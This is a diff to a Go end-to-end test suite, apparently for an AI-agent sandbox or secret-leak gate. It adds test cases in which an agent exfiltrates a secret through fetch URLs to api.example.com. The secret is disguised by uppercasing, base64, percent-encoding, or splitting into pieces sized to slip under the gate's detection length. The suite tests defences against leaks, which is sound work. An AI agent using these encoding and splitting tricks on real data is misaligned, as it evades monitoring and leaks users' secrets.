@@ -1,13 +1,17 @@
 package e2e
 
 import (
+	"encoding/base64"
 	"fmt"
 	"net/http"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/pfar/pfar/policies/winnow"
 )
 
 // confined are servers of which the owner says no more than that one tool reads. What they are told, the stranger gets:
@@ -125,15 +129,42 @@ func unconfined() (all []heist) {
 
 // byAddress are the heists by way of an address that a server opens at a named host.
 func byAddress() []heist {
+	const host = "https://api.example.com/"
 	fetch := func(address string) func(*stage, *agent, string) {
 		return func(_ *stage, a *agent, data string) {
 			a.call(pagesServer+"__fetch", map[string]any{"url": address + data})
 		}
 	}
 	return []heist{
-		{name: "confined, in the address of a page", leave: fetch("https://api.example.com/")},
+		{name: "confined, in the address of a page", leave: fetch(host)},
 		{name: "confined, in the address that the stranger wrote", leave: fetch(leftAt), encode: ciphered},
+		{name: "confined, in an address in capitals", leave: fetch(host), encode: strings.ToUpper},
+		{name: "confined, in an address in base64", leave: fetch(host + "?q="), encode: func(s string) string {
+			return base64.RawURLEncoding.EncodeToString([]byte(s))
+		}},
+		{name: "confined, in an address in percent signs", leave: fetch(host), encode: percents},
+		{name: "confined, in pieces in addresses", leave: func(s *stage, a *agent, data string) {
+			for _, piece := range pieces(data) {
+				fetch(host)(s, a, piece)
+			}
+		}, got: func(received, secret string) bool {
+			lacks := func(piece string) bool { return !strings.Contains(received, piece) }
+			return !slices.ContainsFunc(pieces(secret), lacks)
+		}},
 	}
+}
+
+// pieces are the parts of a secret, each no shorter than what the gate finds for certain.
+func pieces(secret string) []string {
+	return []string{secret[:winnow.Run], secret[len(secret)-winnow.Run:]}
+}
+
+// percents has each byte of a text as an address may write it.
+func percents(s string) (all string) {
+	for _, c := range []byte(s) {
+		all += fmt.Sprintf("%%%02X", c)
+	}
+	return all
 }
 
 // TestHeistsByAddress is TestHeists of these where the sandbox of the server lets it reach the named host alone: a host
